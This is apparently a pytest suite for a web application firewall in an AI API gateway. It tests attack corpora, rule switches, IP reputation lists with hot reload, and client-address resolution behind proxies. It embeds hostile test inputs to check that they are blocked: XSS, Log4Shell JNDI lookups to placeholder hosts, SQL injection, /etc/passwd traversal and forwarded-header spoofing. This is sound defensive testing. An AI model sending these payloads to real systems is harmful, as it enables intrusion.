"""The WAF in a running gateway: both corpora, its switches, IP lists with hot reload, whose address counts."""
import json
import os
import re
import signal
import subprocess

import pytest

from harness import SERVE, SHARED, Gateway, wait_until
from serve import chat, exchange, get, post, wire

CORPORA = SHARED / "corpora" / "waf"
ECHO = {"providers": [{"type": "echo"}]}
CHAT = "/v1/chat/completions"
LISTS = {"reputation": "AWSManagedIPReputationList", "reconnaissance": "AWSManagedReconnaissanceList",
         "ddos": "AWSManagedIPDDoSList"}


def config(**waf):
    return {**ECHO, "waf": {"log": "all", "rate_limit": {"limit": 1000000}, **waf}}


def metrics(gateway):
    text = gateway.request("GET", "/metrics")[2].decode()
    return {line.rpartition(" ")[0]: float(line.rpartition(" ")[2]) for line in text.splitlines()
            if line and not line.startswith("#")}


def records(gateway):
    """The WAF's log lines."""
    return [json.loads(line) for line in gateway.log().splitlines() if '"event":"waf"' in line]


# -- the corpora --

def samples(name):
    path = CORPORA / name
    if not path.exists():
        pytest.skip(f"no corpora at {CORPORA}")
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def as_bytes(sample):
    """The request as the sample has it; its own headers, Host among them. Only how long it is, is ours."""
    body = (sample.get("body") or "").encode("utf-8", "surrogatepass")
    lines = [f"{sample['method']} {sample['uri']} {sample.get('version') or 'HTTP/1.1'}"]
    names = [name.lower() for name, _ in sample["headers"]]
    lines += [f"{name}: {value}" for name, value in sample["headers"] if name.lower() != "connection"]
    if "content-length" not in names and "transfer-encoding" not in names and body:
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: close")
    return "\r\n".join(lines).encode("utf-8", "surrogatepass") + b"\r\n\r\n" + body


def status_of(gateway, sample):
    said = exchange(gateway.port, as_bytes(sample))
    assert said.startswith(b"HTTP/1."), (sample["id"], said[:200])
    return int(said[9:12])


PARSER = (400, 411, 414, 417, 431, 501, 505)  # what it refuses with; 404 and 405 come from behind it


def blocked(sample, status):
    return status == 403 or (str(sample.get("category")) in ("920", "921") and status in PARSER)


@pytest.fixture(scope="module")
def judged():
    """Every sample through one gateway, as it is by default: tier -> [(sample, status)]."""
    found = {}
    with Gateway(config(log="none")) as g:
        for name in ("benign.jsonl", "attacks.jsonl"):
            for sample in samples(name):
                tier = "benign" if name.startswith("benign") else sample["tier"]
                found.setdefault(tier, []).append((sample, status_of(g, sample)))
    return found


def share(rows):
    return sum(blocked(sample, status) for sample, status in rows) / len(rows)


def test_nothing_benign_is_blocked(judged):
    assert [(s["id"], status) for s, status in judged["benign"] if status == 403] == []


def test_attacks_are_blocked_by_tier(judged):
    shares = {tier: share(rows) for tier, rows in judged.items()}
    assert shares["must"] >= 0.85, shares
    assert shares["near-miss"] <= 0.13, shares
    assert shares["json-content"] == 0, shares
    assert shares["json-model"] >= 0.8 and shares["json-unknown"] >= 0.8 and shares["json-key"] >= 0.7, shares


def test_no_category_is_below_its_anchor(judged):
    by_category = {}
    for sample, status in judged["must"]:
        row = by_category.setdefault(sample["category"], [0, 0, 0])
        row[0] += blocked(sample, status)
        row[1] += (sample.get("anchor") or {}).get("crs3.3.4_pl1") == 403
        row[2] += 1
    assert len(by_category) >= 5
    assert {c: row for c, row in by_category.items() if row[0] < row[1]} == {}


def test_prompts_are_counted_where_that_is_asked_for():
    rows = [s for s in samples("attacks.jsonl") if s["tier"] == "json-content"]
    with Gateway(config(content="count-full")) as g:
        assert [s["id"] for s in rows if status_of(g, s) == 403] == []
        hit = [r for r in records(g) if any(l["name"].startswith("aigw:waf:content:") for l in r["labels"])]
        assert len(hit) >= 0.7 * len(rows)


# -- switches --

XSS = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
JNDI = {**chat("hi"), "metadata": {"a": "${jndi:ldap://e.example/a}"}}


def asked(gateway, path=CHAT, body=None, headers=None):
    status, _, answer = gateway.request("POST", path, body or chat("hi"), headers)
    return status, answer


def test_head_body_and_prompt():
    with Gateway(config()) as g:
        assert asked(g)[0] == 200
        assert asked(g, CHAT + XSS)[0] == 403
        assert asked(g, body=JNDI)[0] == 403
        assert asked(g, body=chat("<script>alert(1)</script> ${jndi:ldap://e/a} ' or '1'='1"))[0] == 200
        assert [r["terminatingRuleId"] for r in records(g) if r["action"] == "BLOCK"] == [
            "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"]


@pytest.mark.parametrize("path", [CHAT, "/v1/messages", "/v1beta/models/echo:generateContent",
                                  "/model/echo/converse", "/nowhere"])
def test_a_blocked_client_learns_an_id_and_nothing_else(path):
    with Gateway(config()) as g:
        status, headers, body = g.request("POST", path + XSS, {"a": 1})
        assert status == 403 and b"The request was refused." in body
        assert headers["x-request-id"] in g.log()
        for word in (b"script", b"CrossSite", b"awswaf", b"rule", b"WAF", b"waf"):
            assert word not in body
        assert not any("waf" in k or "waf" in v for k, v in headers.items())


def test_a_head_is_refused_before_its_body():
    with Gateway(config()) as g, wire(g.port) as w:
        w.send(post(CHAT + XSS, b"", "X: y").replace(b"Content-Length: 0", b"Content-Length: 1000000"))
        answer = w.answer()  # though not one byte of the body was sent
        assert answer.status == 403 and answer.headers["connection"] == "close"


def test_bodies_that_nobody_else_wants_are_looked_at_up_to_a_bound():
    form = "Content-Type: application/x-www-form-urlencoded"
    with Gateway(config()) as g:
        def ask(path, body):
            said = exchange(g.port, b"POST %s HTTP/1.1\r\nHost: gateway\r\nUser-Agent: raw/1\r\n%s\r\n"
                            b"Content-Length: %d\r\nConnection: close\r\n\r\n%s"
                            % (path.encode(), form.encode(), len(body), body))
            return int(said[9:12])
        assert ask("/nowhere", b"a=1") == 404
        assert ask("/nowhere", b"a=1%27%20or%20%271%27=%271") == 403
        assert ask("/v1/models", b"a=1%27%20or%20%271%27=%271") == 403  # GET only
        assert ask("/nowhere", b"a=" + b"x" * 65534) == 404
        assert ask("/nowhere", b"a=" + b"x" * 65535) == 413


def test_what_is_no_json_is_told_so_unless_it_is_an_attack():
    with Gateway(config()) as g:
        status, body = asked(g, body=b'{"model":"echo","messages":[}', headers={"content-type": "application/json"})
        assert status == 400 and json.loads(body)["error"]["param"]
        status, _ = asked(g, body=b'{"model":"${jndi:ldap://e.example/a}",}', headers={"content-type": "application/json"})
        assert status == 403


def test_mode_count_blocks_nothing():
    with Gateway(config(mode="count")) as g:
        assert asked(g, CHAT + XSS)[0] == 200 and asked(g, body=JNDI)[0] == 200
        assert {r["action"] for r in records(g)} == {"ALLOW"}
        labels = [l["name"] for r in records(g) for l in r["labels"]]
        assert "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments" in labels
        assert "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body" in labels


def test_one_switch():
    with Gateway({**config(), "enable_waf": False}) as g:
        assert asked(g, CHAT + XSS)[0] == 200 and asked(g, body=JNDI)[0] == 200
        assert records(g) == []


def test_rules_and_groups_by_name():
    rules = {"CrossSiteScripting_QUERYARGUMENTS": "count", "Log4JRCE_BODY": "none",
             "ShellInjection_BODY": "none", "AWSManagedRulesSQLiRuleSet": "count", "SizeRestrictions_BODY": "block"}
    with Gateway(config(rules=rules)) as g:
        assert asked(g, CHAT + XSS)[0] == 200
        assert asked(g, body={**chat("hi"), "user": "1' or '1'='1"})[0] == 200
        assert asked(g, body=JNDI)[0] == 200
        labels = [l["name"] for r in records(g) for l in r["labels"]]
        assert "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments" in labels
        assert "awswaf:managed:aws:sql-database:SQLi_Body" in labels
        assert "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body" not in labels
        assert asked(g, body=chat("x" * 9000))[0] == 403
        with wire(g.port) as w:  # refused by what it announces
            w.send(post(CHAT, b"").replace(b"Content-Length: 0", b"Content-Length: 9000"))
            assert w.answer().status == 403


def test_size_counts_by_default():
    with Gateway(config()) as g:
        assert asked(g, body=chat("x" * 9000))[0] == 200
        assert "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body" in [
            l["name"] for l in records(g)[-1]["labels"]]


def test_the_listener_may_be_called_by_its_name():
    with Gateway(config()) as g:
        for host in (f"localhost:{g.port}", f"127.0.0.1:{g.port}", f"[::1]:{g.port}"):
            assert g.request("GET", "/v1/models", headers={"Host": host})[0] == 200, host
        for host in ("localhost", "127.0.0.1", "[::1]", f"localhost:{g.port + 1}", f"127.0.0.2:{g.port}"):
            assert g.request("GET", "/v1/models", headers={"Host": host})[0] == 403, host
            assert g.request("GET", "/healthz", headers={"Host": host})[0] == 200, host


def test_unknown_names_stop_a_start(tmp_path):
    for waf, pointer in [({"rules": {"GenericLFI": "block"}}, "/waf/rules/GenericLFI"),
                         ({"rules": {"GenericLFI_BODY": "allow"}}, "/waf/rules/GenericLFI_BODY"),
                         ({"content": "block"}, "/waf/content")]:
        file = tmp_path / "c.yaml"
        file.write_text(json.dumps({**ECHO, "waf": waf}))
        ran = subprocess.run([SERVE, "--check", "--config", file], capture_output=True, text=True)
        assert ran.returncode == 1 and f": {pointer}: " in ran.stderr, ran.stderr


# -- explain --

def run(*args, stdin=None):
    ran = subprocess.run([SERVE, "waf", *args], input=stdin, capture_output=True, text=True,
                         env={k: v for k, v in os.environ.items() if not k.startswith("AIGW_CONFIG")})
    return ran.returncode, ran.stdout, ran.stderr


def test_explain(tmp_path):
    file = tmp_path / "request"
    file.write_text("POST /v1/messages?f=../../etc/passwd HTTP/1.1\nHost: gw.example.com\nUser-Agent: t/1\n"
                    "Authorization: Bearer sk-very-secret-<script>alert(1)</script>\nX-Api-Key: ${jndi:ldap://hidden}\n"
                    "Content-Type: application/json\n\n"
                    '{"metadata":{"q":"1\' or \'1\'=\'1"},"messages":[{"role":"user","content":"<script>alert(1)</script>"}]}')
    code, out, _ = run("explain", "--request", str(file))
    assert code == 0 and out.endswith("verdict: block by GenericLFI_QUERYARGUMENTS\n")
    assert re.search(r"^block AWSManagedRulesSQLiRuleSet/SQLi_BODY .* at=json:/metadata/q ", out, re.M)
    assert re.search(r"^count .*aigw:waf:content:CrossSiteScripting component=CONTENT at=json:/messages/0/content", out, re.M)
    assert "secret" not in out and "hidden" not in out
    settings = tmp_path / "c.yaml"
    settings.write_text(json.dumps({**ECHO, "waf": {"mode": "count"}}))
    code, out, _ = run("explain", "--request", "-", "--config", str(settings), stdin=file.read_text())
    assert code == 0 and out.endswith("verdict: allow\n") and "\nblock" not in "\n" + out


def test_explain_reads_samples_and_what_no_parser_takes(tmp_path):
    for sample in samples("attacks.jsonl")[:20]:
        code, out, err = run("explain", "--request", "-", stdin=json.dumps(sample))
        assert code == 0 and "verdict: " in out, (sample["id"], err)
    assert "refused by the HTTP parser with 400" in run("explain", "--request", "-", stdin="GET / HTTP/1.1\nHost: a\nX : b\n\n")[1]
    assert run("explain", "--request", "-", stdin="GET / HTTP/1.1\n")[0] == 1
    assert run("explain", "--request", str(tmp_path / "none"))[0] == 3
    assert run("explain")[0] == 2 and run("nothing")[0] == 2 and run("--help")[0] == 0


def test_rules_of_a_config(tmp_path):
    code, out, _ = run("rules")
    names = re.findall(r"^\w+ +[^/]+/(\S+) ", out, re.M)
    assert code == 0 and len(names) == len(set(names)) >= 46
    assert {"GenericLFI_BODY", "RateLimitPerIP", *LISTS.values()} <= set(names)
    settings = tmp_path / "c.yaml"
    settings.write_text(json.dumps({**ECHO, "enable_waf": False, "waf": {"rules": {
        "AWSManagedIPDDoSList": "block", "AWSManagedRulesSQLiRuleSet": "count", "GenericLFI_BODY": "none"}}}))
    out = run("rules", "--config", str(settings))[1]
    for line in ("block AWSManagedRulesAmazonIpReputationList/AWSManagedIPDDoSList ",
                 "count AWSManagedRulesSQLiRuleSet/SQLi_BODY ", "none  AWSManagedRulesCommonRuleSet/GenericLFI_BODY "):
        assert "\n" + line in out
    assert out.endswith("enable_waf is false: none of them is asked\n")


# -- lists of addresses --

def from_address(gateway, address, path="/v1/models"):
    """Asked by a trusted proxy for this client."""
    return gateway.request("GET", path, headers={"X-Forwarded-For": address})[0]


def lists_config(folder, **more):
    files = {name: [str(folder / name)] for name in (*LISTS, "allow")}
    return {**config(ip_reputation={**files, "check_s": 1}, **more), "server": {"trusted_proxies": ["127.0.0.1"]}}


def write_lists(folder):
    (folder / "reputation").write_text("# a list\n198.51.100.0/24 ; SBL1\n2001:db8:bad::/48\n203.0.113.9\n")
    (folder / "reconnaissance").write_text("192.0.2.0/25\n203.0.113.9\n")
    (folder / "ddos").write_text("192.0.2.128/25\n198.51.100.7\n")
    (folder / "allow").write_text("198.51.100.200\n")


@pytest.mark.parametrize("address, status, rule", [
    ("198.51.100.7", 403, "reputation"), ("::ffff:198.51.100.7", 403, "reputation"),
    ("2001:db8:bad::1", 403, "reputation"), ("192.0.2.5", 403, "reconnaissance"),
    ("203.0.113.9", 403, "reputation"), ("192.0.2.200", 200, "ddos"),
    ("198.51.100.200", 200, None), ("198.51.101.7", 200, None), ("2001:db8:bad0::1", 200, None)])
def test_lists(tmp_path, address, status, rule):
    write_lists(tmp_path)
    with Gateway(lists_config(tmp_path)) as g:
        assert from_address(g, address) == status
        record = records(g)[-1]
        labels = [l["name"] for l in record["labels"]]
        assert labels == ([f"awswaf:managed:aws:amazon-ip-list:{LISTS[rule]}"] if rule else [])
        assert record["httpRequest"]["clientIp"] == str(address).replace("::ffff:", "")
        assert (record["terminatingRuleId"] == "AWSManagedRulesAmazonIpReputationList") == (status == 403)
        assert metrics(g).get('aigw_denied_total{reason="ip_reputation"}', 0) == (status == 403)


def test_lists_follow_rules_and_mode(tmp_path):
    write_lists(tmp_path)
    with Gateway(lists_config(tmp_path, rules={"AWSManagedIPReputationList": "none", "AWSManagedIPDDoSList": "block",
                                               "AWSManagedReconnaissanceList": "count"})) as g:
        assert from_address(g, "198.51.100.8") == 200
        assert from_address(g, "198.51.100.7") == 403 and from_address(g, "192.0.2.200") == 403
        assert from_address(g, "192.0.2.5") == 200
    for more in ({"mode": "count"}, {"rules": {"AWSManagedRulesAmazonIpReputationList": "count"}}):
        with Gateway(lists_config(tmp_path, **more)) as g:
            assert from_address(g, "198.51.100.8") == 200
            assert [l["name"] for l in records(g)[-1]["labels"]] == [
                "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"]


def test_common_rules_come_before_lists_and_the_others_behind(tmp_path):
    write_lists(tmp_path)
    with Gateway(lists_config(tmp_path)) as g:
        assert from_address(g, "198.51.100.7", "/v1/models" + XSS) == 403
        assert records(g)[-1]["terminatingRuleId"] == "AWSManagedRulesCommonRuleSet"
        assert from_address(g, "198.51.100.7", "/v1/models?a=$%7Bjndi:ldap://e/a%7D") == 403
        assert records(g)[-1]["terminatingRuleId"] == "AWSManagedRulesAmazonIpReputationList"
        assert [l["name"] for l in records(g)[-1]["labels"]] == [
            "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"]


def refusals(gateway, name):
    return metrics(gateway)[f'aigw_ip_list_refusals_total{{list="{name}"}}']


def test_lists_are_read_again_when_they_change(tmp_path):
    write_lists(tmp_path)
    file = tmp_path / "reputation"
    with Gateway(lists_config(tmp_path)) as g:
        assert from_address(g, "198.51.100.7") == 403 and from_address(g, "203.0.113.77") == 200
        file.write_text("203.0.113.77\n203.0.113.78\n203.0.113.79\n203.0.113.80\n")
        assert wait_until(lambda: from_address(g, "203.0.113.77") == 403)
        assert from_address(g, "198.51.100.7") == 200
        seen = metrics(g)
        assert seen['aigw_ip_list_entries{list="reputation"}'] == 4
        assert seen['aigw_ip_list_loads_total{list="reputation"}'] == 2
        assert seen['aigw_ip_list_loads_total{list="ddos"}'] == 1
        for n, (what, change) in enumerate({
                "bad_entry": lambda: file.write_text("203.0.113.77\nno address at all\n"),
                "empty_list": lambda: file.write_text("# nothing\n"),
                "shrunk": lambda: file.write_text("203.0.113.77\n"),
                "bad_file": file.unlink}.items(), 1):
            change()
            assert wait_until(lambda: (from_address(g, "192.0.2.254"), refusals(g, "reputation"))[1] == n), what
            assert f'"reason":"{what}"' in g.log() and '"event":"ip_list_refused"' in g.log()
            assert from_address(g, "203.0.113.80") == 403, what  # the last good list
        file.write_text("203.0.113.1\n203.0.113.2\n203.0.113.3\n")
        assert wait_until(lambda: from_address(g, "203.0.113.1") == 403)
        assert from_address(g, "203.0.113.80") == 200 and refusals(g, "reputation") == 4


def test_lists_are_read_again_on_a_reload(tmp_path):
    write_lists(tmp_path)
    settings = lists_config(tmp_path)
    settings["waf"]["ip_reputation"]["check_s"] = 86400
    with Gateway(settings) as g:
        def reload(outcome, n):
            g.process.send_signal(signal.SIGHUP)
            assert wait_until(lambda: g.log().count(f'"event":"{outcome}"') == n)
        (tmp_path / "reputation").write_text("203.0.113.77\n203.0.113.78\n")
        assert from_address(g, "203.0.113.77") == 200
        reload("config_reloaded", 1)
        assert from_address(g, "203.0.113.77") == 403
        (tmp_path / "reputation").unlink()
        reload("config_reloaded", 2)  # the list is refused, the config is not
        assert refusals(g, "reputation") == 1 and from_address(g, "203.0.113.77") == 403
        settings["waf"]["ip_reputation"]["reputation"] = [str(tmp_path / "other")]  # a new file is as at a start
        settings["server"] |= {"listen": "127.0.0.1:0", "threads": 1}
        g.config_file.write_text(json.dumps(settings))
        reload("config_reload_refused", 1)
        assert from_address(g, "203.0.113.77") == 403
        (tmp_path / "other").write_text("203.0.113.200\n")
        reload("config_reloaded", 3)
        assert from_address(g, "203.0.113.77") == 200 and from_address(g, "203.0.113.200") == 403


@pytest.mark.parametrize("text", [None, "", "# nothing\n", "10.0.0.1\nnonsense\n", "0.0.0.0/0\n"])
def test_a_bad_list_stops_a_start(tmp_path, text):
    write_lists(tmp_path)
    (tmp_path / "ddos").unlink()
    if text is not None:
        (tmp_path / "ddos").write_text(text)
    with pytest.raises(RuntimeError) as failure:
        Gateway(lists_config(tmp_path))
    assert "/waf/ip_reputation/ddos" in str(failure.value)


# -- whose request it is --

PROXIES = ["127.0.0.1", "10.0.0.0/8", "2001:db8:a::/48"]
XFF, FWD = "X-Forwarded-For", "Forwarded"
# name: (server settings, header lines, the client that is judged)
SPOOFS = {
    "nobody is trusted": ({"trusted_proxies": []}, [(XFF, "198.51.100.7")], "127.0.0.1"),
    "somebody else is trusted": ({"trusted_proxies": ["10.0.0.1"]}, [(XFF, "198.51.100.7")], "127.0.0.1"),
    "no header": ({}, [], "127.0.0.1"),
    "one address": ({}, [(XFF, "198.51.100.7")], "198.51.100.7"),
    "spoofed on the left": ({}, [(XFF, "192.0.2.1, 198.51.100.7")], "198.51.100.7"),
    "spoofed as a proxy": ({}, [(XFF, "10.1.1.1, 198.51.100.7")], "198.51.100.7"),
    "through two proxies": ({}, [(XFF, "198.51.100.7, 10.1.1.1")], "198.51.100.7"),
    "left of an untrusted one": ({}, [(XFF, "198.51.100.7, 203.0.113.5, 10.1.1.1")], "203.0.113.5"),
    "repeated lines are one list": ({}, [(XFF, "192.0.2.1"), (XFF, "198.51.100.7")], "198.51.100.7"),
    "the line behind is a proxy": ({}, [(XFF, "198.51.100.7"), (XFF, "10.1.1.1")], "198.51.100.7"),
    "all are proxies": ({}, [(XFF, "10.2.2.2, 10.1.1.1")], "10.2.2.2"),
    "an empty line": ({}, [(XFF, "")], "127.0.0.1"),
    "an empty line behind": ({}, [(XFF, "198.51.100.7"), (XFF, "")], "198.51.100.7"),
    "an empty element": ({}, [(XFF, "198.51.100.7,")], "127.0.0.1"),
    "no address": ({}, [(XFF, "198.51.100.7, nonsense")], "127.0.0.1"),
    "no address behind a good one": ({}, [(XFF, "nonsense, 198.51.100.7")], "198.51.100.7"),
    "no address before a proxy": ({}, [(XFF, "nonsense, 10.1.1.1")], "10.1.1.1"),
    "unknown": ({}, [(XFF, "unknown, 10.1.1.1")], "10.1.1.1"),
    "with a port": ({}, [(XFF, "198.51.100.7:1234")], "198.51.100.7"),
    "with a bad port": ({}, [(XFF, "198.51.100.7:99999")], "127.0.0.1"),
    "IPv6": ({}, [(XFF, "2001:db8::7")], "2001:db8::7"),
    "IPv6 in brackets": ({}, [(XFF, "[2001:db8::7]")], "2001:db8::7"),
    "IPv6 with a port": ({}, [(XFF, "[2001:db8::7]:443")], "2001:db8::7"),
    "IPv6 in capitals": ({}, [(XFF, "2001:DB8:0:0::7")], "2001:db8::7"),
    "IPv6 with a zone": ({}, [(XFF, "fe80::1%eth0")], "fe80::1"),
    "IPv6 proxy": ({}, [(XFF, "198.51.100.7, 2001:db8:a::1")], "198.51.100.7"),
    "mapped": ({}, [(XFF, "::ffff:198.51.100.7")], "198.51.100.7"),
    "mapped in hex": ({}, [(XFF, "::ffff:c633:6407")], "198.51.100.7"),
    "a mapped proxy": ({}, [(XFF, "198.51.100.7, ::ffff:10.1.1.1")], "198.51.100.7"),
    "leading zeros": ({}, [(XFF, "198.051.100.007")], "127.0.0.1"),
    "an integer": ({}, [(XFF, "3325256711")], "127.0.0.1"),
    "a quoted address": ({}, [(XFF, '"198.51.100.7"')], "127.0.0.1"),
    "twelve hops, ten are read": ({}, [(XFF, ", ".join(f"10.0.0.{i}" for i in range(12, 0, -1)))], "10.0.0.10"),
    "Forwarded is not read": ({}, [(FWD, "for=198.51.100.7")], "127.0.0.1"),
    "nothing is read": ({"forwarded": "none"}, [(XFF, "198.51.100.7")], "127.0.0.1"),
    "forwarded": ({"forwarded": "forwarded"}, [(FWD, "for=198.51.100.7")], "198.51.100.7"),
    "forwarded, and X-Forwarded-For is not": ({"forwarded": "forwarded"}, [(XFF, "198.51.100.7")], "127.0.0.1"),
    "forwarded, spoofed": ({"forwarded": "forwarded"}, [(FWD, "for=192.0.2.1, for=198.51.100.7;proto=https")], "198.51.100.7"),
    "forwarded, IPv6": ({"forwarded": "forwarded"}, [(FWD, 'For="[2001:db8::7]:4711"')], "2001:db8::7"),
    "forwarded, hidden": ({"forwarded": "forwarded"}, [(FWD, "for=_x, for=10.1.1.1")], "10.1.1.1"),
    "forwarded, an open quote further left": ({"forwarded": "forwarded"}, [(FWD, 'for="1, for=198.51.100.7')], "198.51.100.7"),
    "forwarded, twice in one": ({"forwarded": "forwarded"}, [(FWD, "for=192.0.2.1;for=198.51.100.7")], "127.0.0.1"),
    "one header": ({"forwarded": "header", "forwarded_header": "x-real-ip"}, [("X-Real-IP", "198.51.100.7")], "198.51.100.7"),
    "one header, twice": ({"forwarded": "header", "forwarded_header": "x-real-ip"},
                          [("X-Real-IP", "192.0.2.1"), ("X-Real-IP", "198.51.100.7")], "127.0.0.1"),
    "one header, a list": ({"forwarded": "header", "forwarded_header": "x-real-ip"},
                           [("X-Real-IP", "192.0.2.1, 198.51.100.7")], "127.0.0.1"),
}


@pytest.mark.parametrize("name", SPOOFS)
def test_whose_request_it_is(tmp_path, name):
    """The judged address, by the WAF's record and by a list that has exactly this one."""
    server, lines, client = SPOOFS[name]
    (tmp_path / "list").write_text(client + "\n")
    settings = {**config(ip_reputation={"reputation": [str(tmp_path / "list")]}),
                "server": {"trusted_proxies": PROXIES, **server}}
    with Gateway(settings) as g, wire(g.port) as w:
        w.send(get("/v1/models", *[f"{k}: {v}" for k, v in lines]))
        answer = w.answer()
        assert records(g)[-1]["httpRequest"]["clientIp"] == client
        assert answer.status == 403


@pytest.mark.parametrize("malformed, status", [("last-good", 200), ("match", 403), ("no-match", 200)])
def test_a_malformed_header_does_what_the_policy_says(tmp_path, malformed, status):
    (tmp_path / "list").write_text("198.51.100.7\n")
    settings = {**config(ip_reputation={"reputation": [str(tmp_path / "list")]}),
                "server": {"trusted_proxies": ["127.0.0.1"], "forwarded_malformed": malformed}}
    with Gateway(settings) as g:
        assert from_address(g, "nonsense") == status
        assert from_address(g, "198.51.100.7") == 403 and from_address(g, "198.51.100.8") == 200
    (tmp_path / "list").write_text("127.0.0.1\n")
    with Gateway(settings) as g:
        assert from_address(g, "nonsense") == (200 if malformed == "no-match" else 403)
